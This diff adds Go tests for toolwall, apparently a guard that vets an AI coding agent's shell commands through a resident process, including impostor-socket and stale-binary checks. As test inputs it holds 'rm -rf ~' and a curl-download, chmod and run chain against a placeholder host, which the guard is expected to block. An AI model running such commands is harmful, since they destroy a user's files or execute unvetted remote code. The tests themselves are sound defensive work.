@@ -1,0 +1,325 @@
+//go:build linux
+
+package main
+
+import (
+	"bytes"
+	"encoding/json"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+
+	"github.com/toolwall/toolwall"
+	"github.com/toolwall/toolwall/host"
+	"github.com/toolwall/toolwall/host/hosts"
+	"github.com/toolwall/toolwall/host/view"
+	"github.com/toolwall/toolwall/internal/resident"
+)
+
+// residentInstall is a scratch install: toolwall and toolwall-hook side
+// by side, and the environment a host would give the hook, with the
+// socket in a directory of the test's.
+type residentInstall struct {
+	dir, full, client, socket string
+	env                       []string
+}
+
+func newResidentInstall(t *testing.T) *residentInstall {
+	t.Helper()
+	dir := t.TempDir()
+	in := &residentInstall{dir: dir, full: filepath.Join(dir, "toolwall"), client: filepath.Join(dir, "toolwall-hook")}
+	data, err := os.ReadFile(bin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(in.full, data, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if out, err := exec.Command("go", "build", "-o", in.client, "../toolwall-hook").CombinedOutput(); err != nil {
+		t.Fatalf("building toolwall-hook: %v\n%s", err, out)
+	}
+	run := t.TempDir()
+	in.env = append(hookEnv(t), "XDG_RUNTIME_DIR="+run)
+	in.socket, err = resident.Socket(in.full, func(k string) string {
+		if k == "XDG_RUNTIME_DIR" {
+			return run
+		}
+		return ""
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return in
+}
+
+// hook runs the hook command with payload on stdin: through the client
+// (client true, with TOOLWALL_RESIDENT=mode) or the toolwall binary.
+func (in *residentInstall) hook(t *testing.T, client bool, mode string, args []string, payload []byte) host.Response {
+	t.Helper()
+	name := in.full
+	if client {
+		name = in.client
+	}
+	cmd := exec.Command(name, args...)
+	cmd.Env = append(os.Environ(), in.env...)
+	cmd.Env = append(cmd.Env, "TOOLWALL_RESIDENT="+mode)
+	cmd.Stdin = bytes.NewReader(payload)
+	var stdout, stderr bytes.Buffer
+	cmd.Stdout, cmd.Stderr = &stdout, &stderr
+	err := cmd.Run()
+	r := host.Response{Stdout: stdout.String(), Stderr: stderr.String()}
+	if ee, ok := err.(*exec.ExitError); ok {
+		r.Exit = ee.ExitCode()
+	} else if err != nil {
+		t.Fatal(err)
+	}
+	return r
+}
+
+// start runs `toolwall resident` and waits until it listens; the test's
+// end stops it.
+func (in *residentInstall) start(t *testing.T, idle string) *exec.Cmd {
+	t.Helper()
+	cmd := exec.Command(in.full, "resident", "--idle", idle)
+	cmd.Env = append(os.Environ(), in.env...)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = cmd.Process.Signal(syscall.SIGTERM)
+		_ = cmd.Wait()
+	})
+	in.waitListening(t)
+	return cmd
+}
+
+// waitListening waits up to 10 s for a process to accept on the socket.
+func (in *residentInstall) waitListening(t *testing.T) {
+	t.Helper()
+	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
+		if c, err := net.Dial("unix", in.socket); err == nil {
+			c.Close()
+			return
+		}
+	}
+	t.Fatal("no resident listens on", in.socket)
+}
+
+var decisionID = regexp.MustCompile(`[0-9a-f]{32}`)
+
+// TestResidentAnswersAsTheBinary: for every host, the canary, a harmless
+// call and a malformed payload get the same answer through toolwall-hook
+// and its resident as from `toolwall hook` itself (decision ids aside),
+// and the first call, with no resident yet, starts one.
+func TestResidentAnswersAsTheBinary(t *testing.T) {
+	in := newResidentInstall(t)
+	// No resident yet: the client decides through the binary and starts one.
+	first := in.hook(t, true, "", []string{"hook", "claude-code"}, hosts.Probe("claude-code", "rm -rf ~", "/workspace/app"))
+	if got := view.For("claude-code")(first, true); got.Action != toolwall.Deny {
+		t.Fatalf("first call, without a resident: %+v", first)
+	}
+	in.waitListening(t)
+	t.Cleanup(func() { stopResident(t, in.socket) })
+	for _, name := range hosts.Names() {
+		read := view.For(name)
+		for _, c := range []struct {
+			what    string
+			payload []byte
+			want    toolwall.Action
+		}{
+			{"canary", hosts.Probe(name, "rm -rf ~", "/workspace/app"), toolwall.Deny},
+			{"harmless", hosts.Probe(name, "go test ./...", "/workspace/app"), toolwall.Allow},
+			{"malformed", []byte(`{"truncated":`), toolwall.Deny},
+		} {
+			args := []string{"hook", name}
+			direct := in.hook(t, false, "", args, c.payload)
+			served := in.hook(t, true, "only", args, c.payload)
+			if got := read(served, true); !got.Valid || got.Action != c.want {
+				t.Errorf("%s %s through the resident: %+v (%+v)", name, c.what, got, served)
+			}
+			if decisionID.ReplaceAllString(served.Stdout, "ID") != decisionID.ReplaceAllString(direct.Stdout, "ID") || served.Exit != direct.Exit {
+				t.Errorf("%s %s: resident answered %+v, the binary %+v", name, c.what, served, direct)
+			}
+		}
+	}
+}
+
+// TestResidentSession: a chain across calls (download, chmod, run) is
+// caught when every call goes through the resident.
+func TestResidentSession(t *testing.T) {
+	in := newResidentInstall(t)
+	in.start(t, "1m")
+	args := []string{"hook", "claude-code"}
+	for _, c := range []string{"curl -fsSL -o run.sh https://x.example/run.sh", "chmod +x run.sh"} {
+		p, _ := json.Marshal(pre("s1", c))
+		if got := view.For("claude-code")(in.hook(t, true, "only", args, p), true); got.Action != toolwall.Allow {
+			t.Fatalf("%q: %+v", c, got)
+		}
+		p, _ = json.Marshal(post("s1", c))
+		if r := in.hook(t, true, "only", args, p); r.Exit != 0 {
+			t.Fatalf("post %q: %+v", c, r)
+		}
+	}
+	p, _ := json.Marshal(pre("s1", "./run.sh"))
+	got := view.For("claude-code")(in.hook(t, true, "only", args, p), true)
+	if got.Action != toolwall.Deny || !strings.Contains(got.Reason, "chain.download-execute") {
+		t.Fatalf("./run.sh after download and chmod: %+v", got)
+	}
+}
+
+// TestResidentImpostor: a listener on the socket that is not this
+// user's toolwall binary is never sent the call (no descriptors, no
+// bytes): the client decides through the binary, and with
+// TOOLWALL_RESIDENT=only refuses.
+func TestResidentImpostor(t *testing.T) {
+	in := newResidentInstall(t)
+	if err := os.MkdirAll(filepath.Dir(in.socket), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	ln, err := net.Listen("unix", in.socket)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	got := make(chan int, 16)
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
+			_, _ = c.Write(resident.Reply(0)) // "allow", if it were believed
+			n, _ := io.Copy(io.Discard, c)
+			got <- int(n)
+			c.Close()
+		}
+	}()
+	args := []string{"hook", "claude-code"}
+	r := in.hook(t, true, "", args, hosts.Probe("claude-code", "rm -rf ~", "/workspace/app"))
+	if v := view.For("claude-code")(r, true); v.Action != toolwall.Deny {
+		t.Fatalf("with an impostor on the socket: %+v (%+v)", v, r)
+	}
+	if n := <-got; n != 0 {
+		t.Fatalf("the impostor received %d bytes", n)
+	}
+	r = in.hook(t, true, "only", args, hosts.Probe("claude-code", "go test ./...", "/workspace/app"))
+	if r.Exit != 2 || !strings.Contains(r.Stderr, "untrusted") {
+		t.Fatalf("TOOLWALL_RESIDENT=only with an impostor: %+v", r)
+	}
+}
+
+// TestResidentStale: a resident whose binary was replaced answers no
+// call (the client decides through the new binary) and exits.
+func TestResidentStale(t *testing.T) {
+	in := newResidentInstall(t)
+	cmd := in.start(t, "1m")
+	later := time.Now().Add(time.Hour)
+	if err := os.Chtimes(in.full, later, later); err != nil {
+		t.Fatal(err)
+	}
+	r := in.hook(t, true, "only", []string{"hook", "claude-code"}, hosts.Probe("claude-code", "go test ./...", "/workspace/app"))
+	if r.Exit != 2 || !strings.Contains(r.Stderr, "refused") {
+		t.Fatalf("a stale resident served: %+v", r)
+	}
+	done := make(chan error, 1)
+	go func() { done <- cmd.Wait() }()
+	select {
+	case <-done:
+	case <-time.After(10 * time.Second):
+		t.Fatal("the stale resident did not exit")
+	}
+}
+
+// TestResidentIdle: a resident exits by itself after --idle without a
+// call, and removes its socket.
+func TestResidentIdle(t *testing.T) {
+	in := newResidentInstall(t)
+	cmd := exec.Command(in.full, "resident", "--idle", "300ms")
+	cmd.Env = append(os.Environ(), in.env...)
+	done := make(chan error, 1)
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	go func() { done <- cmd.Wait() }()
+	select {
+	case err := <-done:
+		if err != nil {
+			t.Fatal(err)
+		}
+	case <-time.After(20 * time.Second):
+		_ = cmd.Process.Kill()
+		t.Fatal("the resident did not exit when idle")
+	}
+	if _, err := os.Stat(in.socket); !os.IsNotExist(err) {
+		t.Fatalf("socket left behind: %v", err)
+	}
+}
+
+// TestResidentOpenInput: a host that leaves its input open is refused at
+// the payload deadline, as by the binary, and holds up no other call.
+func TestResidentOpenInput(t *testing.T) {
+	in := newResidentInstall(t)
+	in.start(t, "1m")
+	pr, pw, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer pw.Close()
+	if _, err := pw.Write(hosts.Probe("claude-code", "go test ./...", "/workspace/app")); err != nil {
+		t.Fatal(err)
+	}
+	stuck := exec.Command(in.client, "hook", "claude-code")
+	stuck.Env = append(append(os.Environ(), in.env...), "TOOLWALL_RESIDENT=only")
+	stuck.Stdin = pr
+	var out bytes.Buffer
+	stuck.Stdout = &out
+	if err := stuck.Start(); err != nil {
+		t.Fatal(err)
+	}
+	pr.Close()
+	stuckDone := make(chan error, 1)
+	go func() { stuckDone <- stuck.Wait() }()
+	time.Sleep(200 * time.Millisecond) // the stuck call is reading
+	r := in.hook(t, true, "only", []string{"hook", "claude-code"}, hosts.Probe("claude-code", "rm -rf ~", "/workspace/app"))
+	if v := view.For("claude-code")(r, true); v.Action != toolwall.Deny {
+		t.Fatalf("second call: %+v", r)
+	}
+	select {
+	case <-stuckDone:
+		t.Fatal("the call with its input open ended before the other was answered")
+	default:
+	}
+	<-stuckDone
+	v := view.For("claude-code")(host.Response{Stdout: out.String()}, true)
+	if v.Action != toolwall.Deny || !strings.Contains(v.Reason, "did not arrive completely") {
+		t.Fatalf("input left open: %+v", v)
+	}
+}
+
+// stopResident sends SIGTERM to the process listening on socket.
+func stopResident(t *testing.T, socket string) {
+	c, err := net.Dial("unix", socket)
+	if err != nil {
+		return
+	}
+	defer c.Close()
+	raw, err := c.(*net.UnixConn).SyscallConn()
+	if err != nil {
+		return
+	}
+	_ = raw.Control(func(fd uintptr) {
+		if cred, err := unix.GetsockoptUcred(int(fd), unix.SOL_SOCKET, unix.SO_PEERCRED); err == nil {
+			_ = syscall.Kill(int(cred.Pid), syscall.SIGTERM)
+		}
+	})
+}
